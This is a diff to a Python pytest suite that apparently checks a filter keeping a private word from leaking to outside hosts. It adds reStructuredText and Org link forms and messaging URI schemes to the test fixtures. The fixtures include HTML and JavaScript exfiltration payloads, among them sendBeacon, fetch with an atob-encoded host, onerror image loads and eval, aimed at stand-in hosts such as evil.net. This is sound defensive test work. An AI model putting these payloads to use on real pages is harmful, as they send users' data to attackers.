@@ -24,6 +24,15 @@ LIVE = [
     "<svg><script>navigator.sendBeacon('//{h}', '{s}')</script></svg>", "<img src=x onerror=\"this.src='https://{h}/'+'{s}'\">", "<body onload='fetch(\"//{h}/\" + \"{s}\")'>", "[x](javascript:fetch('https://{h}/'+'{s}'))",
     '<iframe src="https://{h}/" name="{s}"></iframe>', "<object data=https://{h}/ name='{s}'></object>", "<embed src=https://{h}/ flashvars={s}>",
 ]  # fmt: skip
+LINKS = [
+    "`x <https://{h}/a {s}>`_", "`x <https://{h}/a\n{s}>`__ y", ".. _x: https://{h}/?q=\n   {s}\n\ny", ".. _x: https://{h}/a {s}\ny", ".. image:: https://{h}/a\n   {s}\ny", ".. |x| image:: https://{h}/a {s}\n", "__ https://{h}/a {s}\ny", ".. _x:\n   https://{h}/\n   {s}",
+    "[[https://{h}/a {s}][x]]", "[[https://{h}/{s}]]", "[[https://{h}/a b c {s}]] y", "[[//{h}/a {s}][x]]",
+]  # fmt: skip
+"""Of reStructuredText and Org, whose addresses do not end at a blank."""
+RINGS = [
+    "sms:+15551234567?body={s}", "sms:+15551234567&body={s}", "smsto:5551234567;body={s}", "see whatsapp://send?text={s} now", "whatsapp:send?text={s}", "tg://msg?text={s}", "tg:msg?text={s}", "signal://send?text={s}", "[[sms:+15551234567?body={s}][x]]", "`x <tg://msg?text={s}>`_",
+    "kakaolink://send?text={s}", "line://msg/text/{s}", "viber://forward?text={s}", "fb-messenger://share?link={s}", "intent://send/{s}#Intent;end", "<a href=whatsapp://send?text={s}>x</a>", "twitter://post?message={s}", "tel:+15551234567;x={s}", "slack://channel?id={s}", "ms-outlook://compose?body={s}",
+]  # fmt: skip
 MADE = [
     "<script>fetch(atob('aHR0cHM6Ly9ldmlsLm5ldA')+'{s}')</script>", "<script>fetch('https://' + host + '{s}')</script>", "<script>fetch(`//${{h}}/{s}`)</script>", "<script>location=String.fromCharCode(104)+'{s}'</script>",
     "<script>eval('x'+'{s}')</script>",
@@ -40,7 +49,7 @@ PLAIN = [
     '<form action="/booking"><input name=a value="{s}"></form>', '<form action="https://kulke.example/c"><input value="{s}"><a href="https://evil.net/">x</a></form>', "<form onSubmit={save}>{s}</form>", "use `<form>` and `<script>` for {s}",
     "<script>fetch('/api/{s}')</script>", "<script src='https://cdn.evil.net/x.js'></script> {s}", "<script>const a = '{s}' + 'https://kulke.example/' + '{s}'</script>", "<button onclick=\"save('{s}')\">x</button>", "once = '{s}'", "List<object> {s}",
     "const {s} = (<Form action={go}><Input/></Form>)", "tel: {s}, mid: {s}; news: {s} im: {s}", "[x](tel:010-1234-5678) {s}", "in javascript: {s}", "<form>{s}", "a < form {s} >", "https://github.com/velmora/{s}", "https://github.com/torvalds/{s} now",
-    "git clone https://github.com/velmora/{s}.git", "irc: {s}", "say on {s}", "j {s}", "<iframe src='https://kulke.example/' name='{s}'></iframe>",
+    "git clone https://github.com/velmora/{s}.git", "irc: {s}", "line:{s}", "line: {s}? yes", "sms: {s}", "intent:{s}", "at line:12 {s}", "a [[1, 2], [3, {s}]]", ".. note:: {s}\n   {s}", ".. _{s}: x\n\n{s}", "`{s} <https://kulke.example/>`_ {s}", "twitter:{s}", "in slack: {s}", "say on {s}", "j {s}", "<iframe src='https://kulke.example/' name='{s}'></iframe>",
 ]  # fmt: skip
 HOSTS = ("evil.net", "velto.example", "203.0.113.7")
 
@@ -55,7 +64,7 @@ def filled(text: str, word: str, host: str = "evil.net") -> str:
     return text.replace("{s}", word).replace("{h}", host)
 
 
-@pytest.mark.parametrize("text", [*LIVE, *MADE, *SCHEMES, *OWNERS])
+@pytest.mark.parametrize("text", [*LIVE, *MADE, *SCHEMES, *OWNERS, *LINKS, *RINGS])
 def test_a_stranger_gets_nothing(text: str) -> None:
     for word in ("velmora", "벨모라"):
         for host in HOSTS:
@@ -81,7 +90,7 @@ def test_the_users_own_gets_all(text: str) -> None:
         assert restored(said, cut=cut) == restored(said)
 
 
-@pytest.mark.parametrize("text", LIVE)
+@pytest.mark.parametrize("text", [*LIVE, *LINKS])
 @pytest.mark.parametrize("host", ["kulke.example", "shop.example.org", "localhost"])
 def test_what_acts_for_ours_gets_all(text: str, host: str) -> None:
     assert "velmora" not in restored(filled(text, "velmora", host))
@@ -89,7 +98,7 @@ def test_what_acts_for_ours_gets_all(text: str, host: str) -> None:
 
 def test_any_cut_of_a_mixture_gives_the_same() -> None:
     dice = random.Random(11)
-    pool = [filled(text, "velmora") for text in (*LIVE, *MADE, *SCHEMES, *OWNERS, *PLAIN)]
+    pool = [filled(text, "velmora") for text in (*LIVE, *MADE, *SCHEMES, *OWNERS, *PLAIN, *LINKS, *RINGS)]
     for _ in range(120):
         text = dice.choice((" ", "\n", "")).join(dice.sample(pool, 3))
         for form in ("text", "value"):
